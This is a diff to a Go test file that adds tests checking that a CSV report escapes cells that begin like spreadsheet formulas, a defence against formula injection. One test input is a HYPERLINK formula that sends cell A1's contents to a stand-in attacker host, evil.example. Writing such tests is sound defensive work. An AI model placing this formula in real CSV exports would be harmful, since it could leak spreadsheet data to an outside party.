@@ -2,9 +2,11 @@ package render
 
 import (
 	"bytes"
+	"encoding/csv"
 	"flag"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -168,5 +170,54 @@ func TestTextEscapesControlCharacters(t *testing.T) {
 		if !strings.Contains(out, `Cruz\n\n  - disable 1001`) {
 			t.Errorf("%s: the value is not shown escaped:\n%s", format, out)
 		}
+	}
+}
+
+func TestCSVCell(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
+		{"+1", "'+1"},
+		{"-1+2", "'-1+2"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"", ""},
+		{"1001", "1001"},
+		{"a=b", "a=b"},
+		{" =1", " =1"},
+		{"'quoted", "'quoted"},
+	}
+	for _, tc := range tests {
+		if got := CSVCell(tc.in); got != tc.want {
+			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+// No cell of the CSV report starts like a spreadsheet formula: keys, error
+// messages and notes carry HR's and Graph's text.
+func TestReportCSVEscapesFormulas(t *testing.T) {
+	for _, c := range []string{"=", "+", "-", "@", "\t", "\r"} {
+		t.Run(strconv.Quote(c), func(t *testing.T) {
+			v := c + "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+			r := &report.Report{Results: []report.Result{{Action: v, Key: v, ID: v, Attributes: []string{v}, Status: v,
+				ErrorCode: v, Error: v, Note: v}}}
+			var buf bytes.Buffer
+			if err := ReportCSV(&buf, r); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := csv.NewReader(&buf).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(rows) != 2 {
+				t.Fatalf("rows = %q", rows)
+			}
+			for i, cell := range rows[1] {
+				if cell != "'"+v {
+					t.Errorf("column %s = %q, want %q", rows[0][i], cell, "'"+v)
+				}
+			}
+		})
 	}
 }
